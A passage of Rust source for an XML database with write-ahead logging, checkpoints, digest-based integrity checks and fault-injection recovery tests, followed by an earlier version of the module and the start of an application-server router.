    pub fn load(&mut self, uri: &str, xml: &str) -> XdmResult<DocId> {
        let doc = xqib_dom::parse_document(xml)
            .map_err(|e| xqib_xdm::XdmError::new("FODC0002", e.to_string()))?;
        if let Some(d) = &mut self.durable {
            d.stats.wal_appends += 1;
            d.last_appended = d.wal.append(&WalRecord::Load {
                uri: uri.to_string(),
                xml: xml.to_string(),
            });
            d.pending_ops += 1;
        }
        let id = {
            let mut store = self.store.borrow_mut();
            match store.doc_by_uri(uri) {
                Some(id) => {
                    store.replace_document(id, doc);
                    id
                }
                None => store.add_document(doc, Some(uri)),
            }
        };
        self.seal_digests(&[uri.to_string()]);
        self.after_journaled_ops();
        Ok(id)
    }

    /// Serialises a stored document (whole-document REST responses).
    pub fn serialize(&self, uri: &str) -> Option<String> {
        let store = self.store.borrow();
        let id = store.doc_by_uri(uri)?;
        Some(xqib_dom::serialize::serialize_document(store.doc(id)))
    }

    /// Serialises every bound document, sorted by URI (checkpoint input).
    pub fn dump(&self) -> Vec<(String, String)> {
        let store = self.store.borrow();
        store
            .uri_bindings()
            .into_iter()
            .map(|(uri, id)| {
                let xml = xqib_dom::serialize::serialize_document(store.doc(id));
                (uri, xml)
            })
            .collect()
    }

    /// Runs an XQuery against the database; returns the rendered result.
    /// In durable mode any pending update lists the query applies are
    /// journaled as redo records.
    pub fn query(&mut self, src: &str) -> XdmResult<String> {
        self.query_with_deadline(src, None).0
    }

    /// Runs an XQuery under an optional deadline budget, in engine fuel
    /// units (the server converts milliseconds-to-deadline into fuel).
    /// Exhausting the budget raises `XQIB0014`; committing a pending update
    /// list is a point of no return (the budget stops applying), so a
    /// deadline-killed query has applied — and journaled — nothing.
    ///
    /// Returns the result alongside the fuel actually consumed, which the
    /// request governor uses as the virtual-time cost of the evaluation.
    pub fn query_with_deadline(
        &mut self,
        src: &str,
        budget: Option<u64>,
    ) -> (XdmResult<String>, u64) {
        self.evals += 1;
        let exec = match self.executable(src) {
            Ok(e) => e,
            Err(e) => return (Err(e), 0),
        };
        let mut ctx = DynamicContext::new(self.store.clone(), exec.static_context());
        if let Some(budget) = budget {
            ctx.set_deadline_fuel(budget);
            ctx.fuel_commit_exempt = true;
        }
        let journal = self.install_journal(&mut ctx);
        let result = exec.run(&mut ctx);
        self.drain_journal(journal);
        let fuel_used = ctx.fuel_used;
        (
            result.map(|r| runtime::render_sequence(&ctx, &r)),
            fuel_used,
        )
    }

    /// Runs an XQuery with the context item set to a stored document.
    pub fn query_doc(&mut self, uri: &str, src: &str) -> XdmResult<String> {
        self.evals += 1;
        let exec = self.executable(src)?;
        let mut ctx = DynamicContext::new(self.store.clone(), exec.static_context());
        let root = {
            let store = self.store.borrow();
            let id = store
                .doc_by_uri(uri)
                .ok_or_else(|| xqib_xdm::XdmError::new("FODC0002", format!("no document {uri}")))?;
            store.root(id)
        };
        ctx.focus = Some(xqib_xquery::context::Focus {
            item: Item::Node(root),
            position: 1,
            size: 1,
        });
        let journal = self.install_journal(&mut ctx);
        let result = exec.run(&mut ctx);
        self.drain_journal(journal);
        let result = result?;
        Ok(runtime::render_sequence(&ctx, &result))
    }

    /// Resolves `src` to something runnable: a cached (or freshly lowered)
    /// plan in plan mode, a one-shot interpreter compilation otherwise.
    fn executable(&mut self, src: &str) -> XdmResult<Executable> {
        if self.plan_mode {
            let fp = static_fingerprint(&self.modules, false);
            let modules = &self.modules;
            let plan = self
                .plans
                .get_or_compile(src, fp, || compile_plan(src, modules, false))?;
            Ok(Executable::Plan(plan))
        } else {
            Ok(Executable::Interp(runtime::compile_with(
                src,
                &self.modules,
                false,
            )?))
        }
    }

    /// Parses and registers a library module for `import module` in later
    /// queries. The registry feeds the plan-cache fingerprint, so plans
    /// compiled against the previous registry contents stop matching
    /// immediately — no manual invalidation needed.
    pub fn register_module(&mut self, src: &str) -> XdmResult<String> {
        self.modules.register_source(src)
    }

    /// Drops every cached plan (new cache epoch). For environment changes
    /// the static-context fingerprint cannot observe.
    pub fn invalidate_plans(&mut self) {
        self.plans.invalidate();
    }

    /// Plan-cache hit/miss/eviction/invalidation counters.
    pub fn plan_stats(&self) -> PlanCacheStats {
        self.plans.stats()
    }

    /// Number of plans currently cached.
    pub fn plans_cached(&self) -> usize {
        self.plans.len()
    }

    /// Hard group commit: fsyncs the WAL so every journaled operation
    /// becomes durable. No-op in ephemeral mode.
    pub fn commit(&mut self) -> Result<(), DiskError> {
        let Some(d) = &mut self.durable else {
            return Ok(());
        };
        if d.last_committed == d.last_appended {
            d.pending_ops = 0;
            return Ok(());
        }
        d.wal.sync()?;
        d.stats.fsyncs += 1;
        d.last_committed = d.last_appended;
        d.pending_ops = 0;
        Ok(())
    }

    /// Hard checkpoint: commits, snapshots every document into the
    /// alternate slot, then truncates the WAL. Skipped (with an error) if
    /// the commit or the snapshot fsync fails — the previous checkpoint
    /// and the log stay authoritative.
    pub fn checkpoint(&mut self) -> Result<(), DiskError> {
        self.commit()?;
        let docs = self.dump();
        let Some(d) = &mut self.durable else {
            return Ok(());
        };
        let ckpt = Checkpoint {
            gen: d.ckpt_gen + 1,
            seq: d.last_committed,
            docs,
        };
        ckpt.write(&d.disk)?;
        d.ckpt_gen += 1;
        d.stats.checkpoints += 1;
        d.wal.truncate();
        Ok(())
    }

    /// The recorded (acknowledged) content digest of a document. `None`
    /// for unbound URIs, ephemeral databases, and loads whose digest frame
    /// was lost to a torn tail before it could seal.
    pub fn digest_of(&self, uri: &str) -> Option<u64> {
        self.digests.get(uri).copied()
    }

    /// Every recorded digest, sorted by URI — the scrubber's cross-check
    /// input, comparable across replicas without shipping bodies.
    pub fn recorded_digests(&self) -> Vec<(String, u64)> {
        self.digests
            .iter()
            .map(|(uri, d)| (uri.clone(), *d))
            .collect()
    }

    /// Serialises a document with the end-to-end check: recomputes the
    /// content digest of the bytes about to be served and refuses to
    /// respond when they no longer hash to what was acknowledged.
    /// `Ok(None)` for unbound URIs; documents without a recorded digest
    /// (ephemeral mode, unsealed loads) serve unchecked.
    pub fn verified_serialize(&self, uri: &str) -> Result<Option<String>, IntegrityError> {
        let Some(xml) = self.serialize(uri) else {
            return Ok(None);
        };
        if let Some(want) = self.digest_of(uri) {
            let got = content_digest(uri, &xml);
            if got != want {
                return Err(IntegrityError::DigestMismatch {
                    uri: uri.to_string(),
                    want,
                    got,
                });
            }
        }
        Ok(Some(xml))
    }

    /// Scrubber probe: rescans the on-disk WAL and classifies the first
    /// break, if any. `None` when the log is clean or the database is
    /// ephemeral. A torn tail is the expected crash shape; mid-prefix
    /// damage means the durable prefix itself rotted after it was acked.
    pub fn wal_integrity(&self) -> Option<IntegrityError> {
        let d = self.durable.as_ref()?;
        Wal::scan(&d.disk, WAL_FILE).integrity_error()
    }

    /// Scrubber probe: typed verdicts for every written-but-corrupt
    /// checkpoint slot on the backing device (empty when clean or
    /// ephemeral).
    pub fn checkpoint_integrity(&self) -> Vec<IntegrityError> {
        match self.durable.as_ref() {
            Some(d) => Checkpoint::read_latest_verified(&d.disk).1,
            None => Vec::new(),
        }
    }

    /// Fault-injection hook: overwrites the recorded digest of `uri`,
    /// simulating undetected rot between the store and its seal so tests
    /// can prove the read path refuses to serve state that no longer
    /// hashes to what was acknowledged. Returns `false` if nothing was
    /// recorded for `uri`.
    pub fn poison_recorded_digest(&mut self, uri: &str) -> bool {
        match self.digests.get_mut(uri) {
            Some(d) => {
                *d = mix64(*d ^ 0xBAD);
                true
            }
            None => false,
        }
    }

    /// Durability counters (zeroed in ephemeral mode).
    pub fn durability_stats(&self) -> DurabilityStats {
        self.durable
            .as_ref()
            .map(|d| d.stats.clone())
            .unwrap_or_default()
    }

    /// Highest WAL sequence known durable (0 in ephemeral mode).
    pub fn committed_seq(&self) -> u64 {
        self.durable.as_ref().map_or(0, |d| d.last_committed)
    }

    /// Highest WAL sequence appended — it may still be awaiting its group
    /// commit (0 in ephemeral mode). The cluster stamps each update with
    /// this to know when the ack rule covers it.
    pub fn appended_seq(&self) -> u64 {
        self.durable.as_ref().map_or(0, |d| d.last_appended)
    }

    /// The backing device, if durable.
    pub fn disk(&self) -> Option<VirtualDisk> {
        self.durable.as_ref().map(|d| d.disk.clone())
    }

    /// The committed WAL frames with `after < seq <= committed_seq`, for
    /// shipping to a follower. `None` when the follower has fallen off the
    /// log — a checkpoint truncated frames it still needs — or the
    /// database is ephemeral; the caller must resync by snapshot instead
    /// ([`Self::replication_snapshot`]).
    pub fn committed_frames_after(&self, after: u64) -> Option<Vec<ShippedFrame>> {
        let d = self.durable.as_ref()?;
        if after >= d.last_committed {
            return Some(Vec::new());
        }
        let data = d.disk.read(WAL_FILE).unwrap_or_default();
        let frames = Wal::frames_in(&data, after, d.last_committed);
        match frames.first() {
            Some(f) if f.seq == after + 1 => Some(frames),
            _ => None, // gap: the needed suffix was absorbed by a checkpoint
        }
    }

    /// How many committed WAL records with `seq > after` touch `uri` — the
    /// size of the update tail a migration source accepted during a copy
    /// window. `0` for ephemeral databases or when a checkpoint already
    /// absorbed the suffix (the caller re-snapshots then anyway).
    pub fn tail_records_touching(&self, uri: &str, after: u64) -> u64 {
        let Some(frames) = self.committed_frames_after(after) else {
            return 0;
        };
        frames
            .iter()
            .filter(|f| match &f.record {
                WalRecord::Load { uri: u, .. } | WalRecord::Digest { uri: u, .. } => u == uri,
                WalRecord::Pul(bytes) => wire::pul_doc_uris(bytes)
                    .map(|uris| uris.iter().any(|u| u == uri))
                    .unwrap_or(false),
            })
            .count() as u64
    }

    /// A consistent snapshot of the committed state, in the checkpoint
    /// wire format, for resyncing a follower that has fallen off the WAL.
    /// Commits first so the document dump and the stamped sequence agree;
    /// `None` when the database is ephemeral or the commit fsync fails
    /// (retry later — shipping an inconsistent snapshot would double-apply
    /// frames at the follower).
    pub fn replication_snapshot(&mut self) -> Option<Checkpoint> {
        self.durable.as_ref()?;
        if self.commit().is_err() {
            return None;
        }
        let docs = self.dump();
        let d = self.durable.as_ref()?;
        Some(Checkpoint {
            gen: d.ckpt_gen,
            seq: d.last_committed,
            docs,
        })
    }

    fn install_journal(&self, ctx: &mut DynamicContext) -> Option<Rc<RefCell<Vec<Vec<u8>>>>> {
        self.durable.as_ref()?;
        let journal = Rc::new(RefCell::new(Vec::new()));
        ctx.pul_journal = Some(journal.clone());
        Some(journal)
    }

    /// Appends the redo records a query produced — even when the query
    /// later failed, any PUL it already applied (mid-script) must be
    /// journaled — then runs the group-commit / checkpoint policy.
    fn drain_journal(&mut self, journal: Option<Rc<RefCell<Vec<Vec<u8>>>>>) {
        let Some(journal) = journal else { return };
        let records = journal.take();
        let mut touched: Vec<String> = Vec::new();
        for bytes in &records {
            if let Ok(uris) = wire::pul_doc_uris(bytes) {
                for uri in uris {
                    if !touched.contains(&uri) {
                        touched.push(uri);
                    }
                }
            }
        }
        if let Some(d) = &mut self.durable {
            for bytes in records {
                d.stats.wal_appends += 1;
                d.last_appended = d.wal.append(&WalRecord::Pul(bytes));
                d.pending_ops += 1;
            }
        }
        self.seal_digests(&touched);
        self.after_journaled_ops();
    }

    /// Seals the content digest of each touched document: recomputes it
    /// from the applied store, records it, and journals a digest frame per
    /// document — the end-to-end integrity assertion recovery, replication
    /// and the scrubber all verify against. Durable mode only: the digest
    /// map tracks *acknowledged* state, which ephemeral databases lack.
    fn seal_digests(&mut self, uris: &[String]) {
        if self.durable.is_none() {
            return;
        }
        for uri in uris {
            let Some(xml) = self.serialize(uri) else {
                continue;
            };
            let digest = content_digest(uri, &xml);
            self.digests.insert(uri.clone(), digest);
            if let Some(d) = &mut self.durable {
                d.stats.wal_appends += 1;
                d.last_appended = d.wal.append(&WalRecord::Digest {
                    uri: uri.clone(),
                    digest,
                });
                d.pending_ops += 1;
            }
        }
    }

    /// Group-commit policy: soft fsync once enough operations are
    /// outstanding (a failure leaves them pending for the next try), then
    /// checkpoint if the log outgrew its threshold.
    fn after_journaled_ops(&mut self) {
        let Some(d) = &self.durable else { return };
        if d.pending_ops >= d.cfg.group_commit {
            let _ = self.commit();
        }
        let Some(d) = &self.durable else { return };
        if d.cfg.checkpoint_threshold > 0 && d.wal.size_bytes() > d.cfg.checkpoint_threshold {
            let _ = self.checkpoint();
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use xqib_storage::StorageFaultPlan;

    #[test]
    fn load_and_query() {
        let mut db = XmlDb::new();
        db.load("lib.xml", "<books><book><title>A</title></book></books>")
            .unwrap();
        let out = db.query("count(doc('lib.xml')//book)").unwrap();
        assert_eq!(out, "1");
        assert_eq!(db.evals, 1);
    }

    #[test]
    fn query_doc_uses_context_item() {
        let mut db = XmlDb::new();
        db.load("lib.xml", "<books><book/><book/></books>").unwrap();
        let out = db.query_doc("lib.xml", "count(//book)").unwrap();
        assert_eq!(out, "2");
    }

    #[test]
    fn serialize_roundtrip() {
        let mut db = XmlDb::new();
        db.load("d.xml", "<r><a x=\"1\"/></r>").unwrap();
        assert_eq!(db.serialize("d.xml").unwrap(), "<r><a x=\"1\"/></r>");
        assert!(db.serialize("missing.xml").is_none());
    }

    #[test]
    fn bad_query_is_error() {
        let mut db = XmlDb::new();
        assert!(db.query("1 +").is_err());
        assert!(db.query_doc("nope.xml", "1").is_err());
    }

    #[test]
    fn reload_replaces_the_binding() {
        let mut db = XmlDb::new();
        let id1 = db.load("d.xml", "<old/>").unwrap();
        let id2 = db.load("d.xml", "<new><child/></new>").unwrap();
        assert_eq!(id1, id2, "same DocId slot");
        assert_eq!(db.serialize("d.xml").unwrap(), "<new><child/></new>");
        assert_eq!(db.query("count(doc('d.xml')//child)").unwrap(), "1");
    }

    #[test]
    fn durable_load_and_update_survive_recovery() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r><v>1</v></r>").unwrap();
        db.query("replace value of node doc('d.xml')//v with '2'")
            .unwrap();
        assert_eq!(db.serialize("d.xml").unwrap(), "<r><v>2</v></r>");
        drop(db);
        disk.crash();
        let db2 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        assert_eq!(db2.serialize("d.xml").unwrap(), "<r><v>2</v></r>");
        assert_eq!(db2.durability_stats().recoveries, 1);
    }

    #[test]
    fn recovery_is_idempotent() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap();
        db.query("insert node <a>x</a> into doc('d.xml')/r")
            .unwrap();
        db.checkpoint().unwrap();
        db.query("insert node <b>y</b> into doc('d.xml')/r")
            .unwrap();
        let expect = db.serialize("d.xml").unwrap();
        drop(db);
        disk.crash();
        let db2 = XmlDb::recover(disk.clone(), DurabilityConfig::default()).unwrap();
        assert_eq!(db2.serialize("d.xml").unwrap(), expect);
        let seq = db2.committed_seq();
        drop(db2);
        disk.crash();
        let db3 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        assert_eq!(db3.serialize("d.xml").unwrap(), expect);
        assert_eq!(db3.committed_seq(), seq);
    }

    #[test]
    fn unsynced_tail_is_dropped_but_committed_prefix_survives() {
        let disk = VirtualDisk::with_plan(StorageFaultPlan::seeded(5));
        // group_commit = 100: nothing fsyncs until commit() is called
        let cfg = DurabilityConfig {
            group_commit: 100,
            checkpoint_threshold: 0,
        };
        let mut db = XmlDb::durable(disk.clone(), cfg);
        db.load("d.xml", "<r><v>committed</v></r>").unwrap();
        db.commit().unwrap();
        db.query("replace value of node doc('d.xml')//v with 'lost-on-crash'")
            .unwrap();
        assert_eq!(db.committed_seq(), 2, "load frame + its digest seal");
        drop(db);
        disk.crash();
        let db2 = XmlDb::recover(disk, cfg).unwrap();
        assert_eq!(
            db2.serialize("d.xml").unwrap(),
            "<r><v>committed</v></r>",
            "unsynced update is gone, committed load intact"
        );
    }

    #[test]
    fn sync_failure_is_soft_and_retried() {
        // sync always fails at permille 1000
        let disk =
            VirtualDisk::with_plan(StorageFaultPlan::seeded(7).with_sync_fail_permille(1000));
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap(); // group commit fails softly
        assert_eq!(db.committed_seq(), 0, "not acknowledged");
        assert_eq!(db.serialize("d.xml").unwrap(), "<r/>", "still applied");
        // heal the device: the next journaled op commits the whole batch
        disk.set_plan(StorageFaultPlan::seeded(7));
        db.load("e.xml", "<e/>").unwrap();
        assert_eq!(
            db.committed_seq(),
            4,
            "both loads (and their digest seals) acknowledged"
        );
    }

    #[test]
    fn checkpoint_threshold_triggers_and_truncates() {
        let disk = VirtualDisk::new();
        let cfg = DurabilityConfig {
            group_commit: 1,
            checkpoint_threshold: 256,
        };
        let mut db = XmlDb::durable(disk.clone(), cfg);
        let big = format!("<r>{}</r>", "<x>padding</x>".repeat(20));
        db.load("d.xml", &big).unwrap();
        assert!(db.durability_stats().checkpoints >= 1, "threshold crossed");
        assert!(disk.len(WAL_FILE) < 256, "log truncated");
        drop(db);
        disk.crash();
        let db2 = XmlDb::recover(disk, cfg).unwrap();
        assert_eq!(db2.serialize("d.xml").unwrap(), big);
    }

    #[test]
    fn both_checkpoint_slots_corrupt_recovers_from_the_wal_alone() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r><v>1</v></r>").unwrap();
        db.checkpoint().unwrap();
        db.query("insert node <a/> into doc('d.xml')/r").unwrap();
        drop(db);
        // wreck both slots: recovery must fall back cleanly, not panic
        for slot in CKPT_SLOTS {
            if let Some(mut data) = disk.read(slot) {
                let mid = data.len() / 2;
                data[mid] ^= 0xff;
                disk.write_file(slot, &data);
            } else {
                disk.write_file(slot, b"garbage");
            }
        }
        let db2 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        // the checkpoint absorbed seq 1..=2 and truncated the WAL, so only
        // the post-checkpoint insert replays onto an empty store: with the
        // snapshot gone, its PUL cannot resolve and recovery stops at the
        // empty frame boundary — a clean (if empty) state, never a panic
        assert_eq!(db2.committed_seq(), 0);
        assert!(db2.serialize("d.xml").is_none());
        assert_eq!(
            db2.durability_stats().ckpt_slots_lost,
            1,
            "losing every snapshot slot is surfaced, not silent"
        );
    }

    #[test]
    fn digests_are_sealed_journaled_and_survive_recovery() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r><v>1</v></r>").unwrap();
        db.query("replace value of node doc('d.xml')//v with '2'")
            .unwrap();
        let sealed = db.digest_of("d.xml").expect("digest recorded");
        let xml = db.serialize("d.xml").unwrap();
        assert_eq!(sealed, xqib_storage::content_digest("d.xml", &xml));
        drop(db);
        disk.crash();
        let db2 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        assert_eq!(db2.digest_of("d.xml"), Some(sealed));
        assert_eq!(db2.durability_stats().recovery_digest_mismatches, 0);
        assert_eq!(
            db2.verified_serialize("d.xml").unwrap().unwrap(),
            "<r><v>2</v></r>"
        );
    }

    #[test]
    fn poisoned_digest_refuses_the_read() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk, DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap();
        assert!(db.verified_serialize("d.xml").is_ok());
        assert!(db.poison_recorded_digest("d.xml"));
        let err = db.verified_serialize("d.xml").unwrap_err();
        assert!(matches!(
            err,
            xqib_storage::IntegrityError::DigestMismatch { .. }
        ));
        // unbound URIs and unpoisoned docs still serve
        assert_eq!(db.verified_serialize("missing.xml").unwrap(), None);
        assert!(!db.poison_recorded_digest("missing.xml"));
    }

    #[test]
    fn mid_prefix_rot_is_counted_and_truncated_by_recovery() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap(); // seq 1..=2
        db.load("e.xml", "<e/>").unwrap(); // seq 3..=4
        drop(db);
        // flip a payload byte inside the second frame: damage strictly
        // inside the durable prefix, which no legal crash produces
        let mut data = disk.read(WAL_FILE).unwrap();
        let first_end = xqib_storage::Wal::scan(&disk, WAL_FILE).records[0].2;
        data[first_end + 17] ^= 0x40;
        disk.write_file(WAL_FILE, &data);
        let db2 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        let stats = db2.durability_stats();
        assert_eq!(stats.wal_corruptions, 1, "rot classified as the alarm");
        assert_eq!(db2.committed_seq(), 1, "replay stops before the damage");
        assert_eq!(db2.serialize("d.xml").unwrap(), "<r/>");
        assert!(db2.serialize("e.xml").is_none());
    }

    #[test]
    fn forged_digest_frame_stops_replay_with_a_mismatch_count() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap(); // seq 1..=2
        drop(db);
        // append a digest frame asserting a hash the store cannot match
        let replay = xqib_storage::Wal::scan(&disk, WAL_FILE);
        let mut wal = xqib_storage::Wal::open_after(disk.clone(), WAL_FILE, &replay);
        wal.append(&WalRecord::Digest {
            uri: "d.xml".to_string(),
            digest: 0xBAD0_BAD0_BAD0_BAD0,
        });
        wal.sync().unwrap();
        let db2 = XmlDb::recover(disk, DurabilityConfig::default()).unwrap();
        let stats = db2.durability_stats();
        assert_eq!(stats.recovery_digest_mismatches, 1);
        assert_eq!(db2.committed_seq(), 2, "state stops at the last seal");
        assert_eq!(db2.serialize("d.xml").unwrap(), "<r/>");
    }

    #[test]
    fn wal_and_checkpoint_integrity_probes_classify_the_device() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap();
        db.load("e.xml", "<e/>").unwrap();
        db.checkpoint().unwrap();
        db.load("f.xml", "<f/>").unwrap();
        assert_eq!(db.wal_integrity(), None, "clean log");
        assert!(db.checkpoint_integrity().is_empty(), "clean slots");
        // rot the WAL mid-prefix and one checkpoint slot
        let mut data = disk.read(WAL_FILE).unwrap();
        let first_end = xqib_storage::Wal::scan(&disk, WAL_FILE).records[0].2;
        data[first_end + 17] ^= 0x01;
        disk.write_file(WAL_FILE, &data);
        let slot = CKPT_SLOTS[1]; // gen 1 went to slot 1
        let mut ck = disk.read(slot).unwrap();
        let mid = ck.len() / 2;
        ck[mid] ^= 0x01;
        disk.write_file(slot, &ck);
        assert!(matches!(
            db.wal_integrity(),
            Some(xqib_storage::IntegrityError::WalCorruption { .. })
        ));
        assert_eq!(
            db.checkpoint_integrity(),
            vec![
                xqib_storage::IntegrityError::CheckpointSlotCorrupt { slot: 1 },
                xqib_storage::IntegrityError::AllCheckpointSlotsCorrupt,
            ],
            "the only written slot rotted: the alarm verdict fires"
        );
        // ephemeral databases have nothing to probe
        assert_eq!(XmlDb::new().wal_integrity(), None);
        assert!(XmlDb::new().checkpoint_integrity().is_empty());
    }

    #[test]
    fn unreadable_checkpoint_document_is_a_typed_recovery_failure() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap();
        db.checkpoint().unwrap();
        drop(db);
        // forge a checkpoint whose CRC is intact but whose document body is
        // not XML: read_latest accepts it, the parse must fail *typed*
        let forged = Checkpoint {
            gen: 2,
            seq: 1,
            docs: vec![("d.xml".into(), "<unclosed".into())],
        };
        forged.write(&disk).unwrap();
        let err = XmlDb::recover(disk, DurabilityConfig::default())
            .err()
            .expect("recovery must fail, not panic");
        assert_eq!(err.code, wire::WIRE_ERR);
        assert!(err.message.contains("d.xml"), "names the bad document");
    }

    #[test]
    fn committed_frames_after_ships_exactly_the_committed_suffix() {
        let disk = VirtualDisk::new();
        let cfg = DurabilityConfig {
            group_commit: 100, // manual commits only
            checkpoint_threshold: 0,
        };
        let mut db = XmlDb::durable(disk.clone(), cfg);
        db.load("d.xml", "<r/>").unwrap(); // seq 1 + digest seq 2
        db.load("e.xml", "<e/>").unwrap(); // seq 3 + digest seq 4
        db.commit().unwrap();
        db.load("f.xml", "<f/>").unwrap(); // seq 5..=6, uncommitted
        assert_eq!(db.appended_seq(), 6);
        assert_eq!(db.committed_seq(), 4);
        let frames = db.committed_frames_after(0).unwrap();
        assert_eq!(
            frames.iter().map(|f| f.seq).collect::<Vec<_>>(),
            vec![1, 2, 3, 4],
            "only committed frames ship"
        );
        let tail = db.committed_frames_after(3).unwrap();
        assert_eq!(tail.len(), 1);
        assert_eq!(tail[0].seq, 4);
        assert!(db.committed_frames_after(4).unwrap().is_empty());
        // ephemeral databases have nothing to ship
        assert!(XmlDb::new().committed_frames_after(0).is_none());
    }

    #[test]
    fn frames_absorbed_by_a_checkpoint_force_a_snapshot_resync() {
        let disk = VirtualDisk::new();
        let mut db = XmlDb::durable(disk.clone(), DurabilityConfig::default());
        db.load("d.xml", "<r/>").unwrap(); // seq 1..=2
        db.checkpoint().unwrap(); // truncates the WAL
        db.load("e.xml", "<e/>").unwrap(); // seq 3..=4
        assert!(
            db.committed_frames_after(0).is_none(),
            "seq 1 is gone from the log: follower at 0 needs a snapshot"
        );
        let snap = db.replication_snapshot().unwrap();
        assert_eq!(snap.seq, db.committed_seq());
        assert_eq!(snap.docs.len(), 2);
        // a follower already past the checkpoint still gets frames
        let frames = db.committed_frames_after(2).unwrap();
        assert_eq!(frames.iter().map(|f| f.seq).collect::<Vec<_>>(), vec![3, 4]);
    }
}
