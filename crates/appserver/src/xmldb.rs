//! The XML database (the MarkLogic stand-in of §6.1): a document store
//! with a server-side XQuery execution facility.

use std::rc::Rc;

use xqib_dom::store::shared_store;
use xqib_dom::{DocId, SharedStore};
use xqib_xdm::{Item, XdmResult};
use xqib_xquery::context::{DynamicContext, StaticContext};
use xqib_xquery::runtime;

/// A server-side XML database.
pub struct XmlDb {
    pub store: SharedStore,
    /// number of queries evaluated (CPU proxy)
    pub evals: u64,
}

impl Default for XmlDb {
    fn default() -> Self {
        Self::new()
    }
}

impl XmlDb {
    pub fn new() -> Self {
        XmlDb {
            store: shared_store(),
            evals: 0,
        }
    }

    /// Loads a document under a URI.
    pub fn load(&mut self, uri: &str, xml: &str) -> XdmResult<DocId> {
        let doc = xqib_dom::parse_document(xml)
            .map_err(|e| xqib_xdm::XdmError::new("FODC0002", e.to_string()))?;
        Ok(self.store.borrow_mut().add_document(doc, Some(uri)))
    }

    /// Serialises a stored document (whole-document REST responses).
    pub fn serialize(&self, uri: &str) -> Option<String> {
        let store = self.store.borrow();
        let id = store.doc_by_uri(uri)?;
        Some(xqib_dom::serialize::serialize_document(store.doc(id)))
    }

    /// Runs an XQuery against the database; returns the rendered result.
    pub fn query(&mut self, src: &str) -> XdmResult<String> {
        self.evals += 1;
        let q = runtime::compile(src)?;
        let mut ctx = DynamicContext::new(self.store.clone(), q.sctx.clone());
        let result = q.execute(&mut ctx)?;
        Ok(runtime::render_sequence(&ctx, &result))
    }

    /// Runs an XQuery with the context item set to a stored document.
    pub fn query_doc(&mut self, uri: &str, src: &str) -> XdmResult<String> {
        self.evals += 1;
        let q = runtime::compile(src)?;
        let sctx: Rc<StaticContext> = q.sctx.clone();
        let mut ctx = DynamicContext::new(self.store.clone(), sctx);
        let root = {
            let store = self.store.borrow();
            let id = store
                .doc_by_uri(uri)
                .ok_or_else(|| xqib_xdm::XdmError::new("FODC0002", format!("no document {uri}")))?;
            store.root(id)
        };
        ctx.focus = Some(xqib_xquery::context::Focus {
            item: Item::Node(root),
            position: 1,
            size: 1,
        });
        let result = q.execute(&mut ctx)?;
        Ok(runtime::render_sequence(&ctx, &result))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn load_and_query() {
        let mut db = XmlDb::new();
        db.load("lib.xml", "<books><book><title>A</title></book></books>")
            .unwrap();
        let out = db.query("count(doc('lib.xml')//book)").unwrap();
        assert_eq!(out, "1");
        assert_eq!(db.evals, 1);
    }

    #[test]
    fn query_doc_uses_context_item() {
        let mut db = XmlDb::new();
        db.load("lib.xml", "<books><book/><book/></books>").unwrap();
        let out = db.query_doc("lib.xml", "count(//book)").unwrap();
        assert_eq!(out, "2");
    }

    #[test]
    fn serialize_roundtrip() {
        let mut db = XmlDb::new();
        db.load("d.xml", "<r><a x=\"1\"/></r>").unwrap();
        assert_eq!(db.serialize("d.xml").unwrap(), "<r><a x=\"1\"/></r>");
        assert!(db.serialize("missing.xml").is_none());
    }

    #[test]
    fn bad_query_is_error() {
        let mut db = XmlDb::new();
        assert!(db.query("1 +").is_err());
        assert!(db.query_doc("nope.xml", "1").is_err());
    }
}
