//! The application server: HTTP-ish routing over the XML database, with
//! the per-deployment metrics of the Figure 2 experiment.

use xqib_dom::order::stats as engine_stats;
use xqib_dom::order::stats::EngineStats;
use xqib_xdm::XdmResult;

use crate::metrics::ServerMetrics;
use crate::render;
use crate::xmldb::XmlDb;

/// An application-server response.
#[derive(Debug, Clone)]
pub struct ServerResponse {
    pub status: u16,
    pub body: String,
}

/// The Reference 2.0 application server.
pub struct AppServer {
    pub db: XmlDb,
    pub metrics: ServerMetrics,
    /// Process-global engine counters at construction time; `metrics`
    /// reports the delta from here.
    engine_baseline: EngineStats,
}

impl AppServer {
    /// Builds a server over a corpus document.
    pub fn new(corpus_xml: &str) -> XdmResult<Self> {
        let mut db = XmlDb::new();
        db.load(render::CORPUS_URI, corpus_xml)?;
        Ok(AppServer {
            db,
            metrics: ServerMetrics::default(),
            engine_baseline: engine_stats::snapshot(),
        })
    }

    /// Handles one request URL (path + query). Routes:
    ///
    /// * `/page?article=ID` — server-rendered article page (the "before"
    ///   deployment: one XQuery evaluation per interaction);
    /// * `/index` — server-rendered journal index;
    /// * `/doc?uri=U` — a whole stored document (the migrated deployment's
    ///   cache-friendly REST API: "serve whole documents rather than
    ///   individual queries to documents", §6.1);
